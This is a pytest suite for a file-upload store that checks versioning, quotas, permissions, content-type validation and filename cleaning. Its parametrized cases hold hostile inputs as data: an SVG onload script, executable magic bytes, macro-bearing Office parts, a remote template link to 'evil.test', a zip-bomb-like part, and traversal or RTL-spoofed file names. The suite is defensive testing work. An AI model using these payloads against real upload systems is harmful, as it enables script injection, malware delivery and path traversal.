"""Are files kept as they came, under names of ours, and is nothing kept that could run or that lies?"""

import hashlib
import stat
import threading
from datetime import UTC, datetime
from pathlib import Path

import pytest
from sqlalchemy import Engine

from domain.files import KINDS, NotTaken, cleaned, documents
from domain.record import Writing
from store import reads
from store.engine import open_store
from store.file_contents import checked
from store.file_folder import Folder
from store.files import Given, Kept, SqlFiles, customers_files, files_of
from store.ledger import SqlLedger
from tests.support.databases import dossier, sqlite_store, standing
from tests.support.uploads import OFFICE, PDF, PNG, office

ONE = "onboarding-file-1"
LINKED = b'<Relationship Type="http://x/hyperlink" TargetMode="External"/>'
AT = datetime(2026, 11, 2, 9, tzinfo=UTC)


@pytest.fixture
def engine(tmp_path: Path) -> Engine:
    engine = open_store(sqlite_store(tmp_path))
    ledger = SqlLedger(engine)
    ledger.admit(dossier(), run="run-1")
    ledger.write(Writing(onboarding=ONE, standing=standing()))
    return engine


@pytest.fixture
def folder(tmp_path: Path) -> Folder:
    return Folder(tmp_path / "files")


@pytest.fixture
def kept(engine: Engine, folder: Folder) -> SqlFiles:
    return SqlFiles(engine, folder, quota=1_000)


def given(key: str = "file/1", *, name: str = "plan.pdf", **changes: object) -> Given:
    plain = Given(key, name, "plan_document", "both", "project_lead", "customer", AT, "room")
    return plain._replace(**changes)  # type: ignore[arg-type]  # fields of a tuple


def give(kept: SqlFiles, folder: Folder, content: bytes, given: Given, *, largest: int = 900) -> Kept:
    with folder.incoming(largest=largest) as incoming:
        incoming.write(content)
        return kept.keep(ONE, incoming, given)


def bytes_below(folder: Path) -> list[Path]:
    return [path for path in folder.rglob("*") if path.is_file()]


def test_the_same_name_is_the_next_version_and_each_is_kept(
    kept: SqlFiles, folder: Folder, engine: Engine, tmp_path: Path
) -> None:
    """With hash, size and journal; the bytes are ours alone, and no name that somebody gave is a path."""
    give(kept, folder, PDF, given("file/1", name="Plan.pdf"))
    give(kept, folder, PDF + b"2", given("file/2"))
    give(kept, folder, PDF, given("file/3", deliverable=""))

    [plan, other] = documents(files_of(engine, ONE))
    assert ([2, 1], [1]) == ([one.version for one in plan.versions], [one.version for one in other.versions])
    assert hashlib.sha256(PDF + b"2").hexdigest() == plan.newest.sha256
    assert PDF + b"2" == Path(kept.content(plan.newest)).read_bytes()
    rows = reads.journal(engine, ONE, kinds=["file_added"])
    assert ["plan_document", "plan_document", ""] == [row.about for row in rows]
    assert [row.seq for row in rows] == [file.seq for file in files_of(engine, ONE)]
    assert {0o600} == {stat.S_IMODE(path.stat().st_mode) for path in bytes_below(tmp_path / "files")}
    assert not [path for path in bytes_below(tmp_path / "files") if "plan" in path.name.lower()]


def test_the_same_form_counts_once_and_leaves_no_bytes(kept: SqlFiles, folder: Folder, tmp_path: Path) -> None:
    first = give(kept, folder, PDF, given())
    second = give(kept, folder, PDF + b"other", given())

    assert (True, False) == (first.new, second.new)
    assert first.file == second.file
    assert 1 == len(bytes_below(tmp_path / "files"))


def test_what_comes_at_once_gets_a_version_each(kept: SqlFiles, folder: Folder, engine: Engine) -> None:
    threads = [
        threading.Thread(target=give, args=(kept, folder, PDF + bytes([i + 48]), given(f"file/{i}"))) for i in range(6)
    ]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()

    assert [1, 2, 3, 4, 5, 6] == sorted(file.version for file in files_of(engine, ONE))


def test_too_much_is_refused_before_it_is_kept(kept: SqlFiles, folder: Folder, tmp_path: Path) -> None:
    """Of one file, and of all of an onboarding together; nothing stays behind."""
    with pytest.raises(NotTaken, match="file_too_large"):
        give(kept, folder, PDF + b"x" * 900, given())
    give(kept, folder, PDF + b"x" * 800, given())
    with pytest.raises(NotTaken, match="file_quota"):
        give(kept, folder, PDF + b"x" * 200, given("file/2"))

    assert 1 == len(bytes_below(tmp_path / "files"))


def test_what_is_ours_alone_is_not_the_customers(kept: SqlFiles, folder: Folder, engine: Engine) -> None:
    """Nor does it count as a version of theirs, from which they would see that there is one."""
    give(kept, folder, PDF, given("file/1", audience="vendor"))
    give(kept, folder, PDF, given("file/2"))

    [theirs] = customers_files(engine, ONE)
    assert 1 == theirs.version
    assert 2 == len(files_of(engine, ONE))


@pytest.mark.parametrize(
    ("name", "content", "wrong"),
    [
        ("a.pdf", b"", "file_empty"),
        ("a.html", b"<script>", "file_kind"),
        ("a.svg", b"<svg onload=alert(1)>", "file_kind"),
        ("a", PDF, "file_kind"),
        ("a.docm", office("docx"), "file_kind"),
        ("a.zip", office("docx"), "file_zip"),
        ("a.pdf", b"<html>%PDF-1.7", "file_lies"),
        ("a.png", b"\xff\xd8\xff\xe0", "file_lies"),
        ("a.pdf", office("docx"), "file_lies"),
        ("a.docx", PDF, "file_lies"),
        ("a.docx", office("xlsx"), "file_lies"),
        ("a.docx", b"PK\x03\x04 broken", "file_lies"),
        ("a.txt", b"MZ\x90\x00\x03", "file_lies"),
        ("a.csv", b"\x7fELF\x02\x01", "file_lies"),
        ("a.docx", office("docx", {"word/vbaProject.bin": b"x"}), "file_macros"),
        ("a.xlsx", office("xlsx", {"xl/macrosheets/sheet1.xml": b"x"}), "file_macros"),
        ("a.pptx", office("pptx", {"ppt/activeX/activeX1.xml": b"x"}), "file_macros"),
        ("a.docx", office("docx", {"word/embeddings/oleObject1.bin": b"x"}), "file_macros"),
        ("a.docx", office("docx", types=b"application/vnd.ms-word.document.macroEnabled.main+xml"), "file_macros"),
        (
            "a.docx",
            office(
                "docx",
                {
                    "word/_rels/settings.xml.rels": b'<Relationship Type="http://x/attachedTemplate" '
                    b'Target="https://evil.test/a.dotm" TargetMode="External"/>'
                },
            ),
            "file_macros",
        ),
        ("a.docx", office("docx", {"word/_rels/bomb.rels": b" " * 2_000_000}), "file_lies"),
    ],
)
def test_what_lies_or_could_run_is_refused(tmp_path: Path, name: str, content: bytes, wrong: str) -> None:
    path = tmp_path / "upload"
    path.write_bytes(content)
    with pytest.raises(NotTaken, match=wrong):
        checked(path, name)


@pytest.mark.parametrize(
    ("name", "content"),
    [
        ("a.PDF", PDF),
        ("a.png", PNG),
        ("a.jpeg", b"\xff\xd8\xff\xe0 JFIF"),
        ("a.webp", b"RIFF\x10\x00\x00\x00WEBPVP8 "),
        ("a.csv", "日本語,1\r\n".encode("cp932")),
        ("a.txt", "\ufeffGrüße\n".encode()),
        ("a.txt", "日本".encode("utf-16")),
        *((f"a.{kind}", office(kind)) for kind in OFFICE),
        # A link in a text leads out too, and fetches nothing by itself.
        ("a.docx", office("docx", {"word/_rels/document.xml.rels": LINKED})),
        ("a.xlsx", office("xlsx", {"xl/printerSettings/printerSettings1.bin": b"x"})),
    ],
)
def test_what_people_work_with_is_taken(tmp_path: Path, name: str, content: bytes) -> None:
    path = tmp_path / "upload"
    path.write_bytes(content)
    assert KINDS[name.rpartition(".")[2].lower()] == checked(path, name)


@pytest.mark.parametrize(
    ("given", "shown"),
    [
        ("../../x.html", "x.html"),
        ("C:\\Users\\me\\plan.pdf", "plan.pdf"),
        ("/etc/passwd", "passwd"),
        ("plan\x00\r\n.pdf", "plan.pdf"),
        ("fdp\u202efdp.exe", "fdpfdp.exe"),
        ("...", "file"),
        ("", "file"),
        (".pdf", "file.pdf"),
        ("議事録 第1回.pdf", "議事録 第1回.pdf"),
        ('a"b:c.pdf', "a_b_c.pdf"),
        ("x" * 300 + ".pdf", "x" * 116 + ".pdf"),
    ],
)
def test_a_name_is_cleaned_for_those_who_read_it(given: str, shown: str) -> None:
    assert shown == cleaned(given)
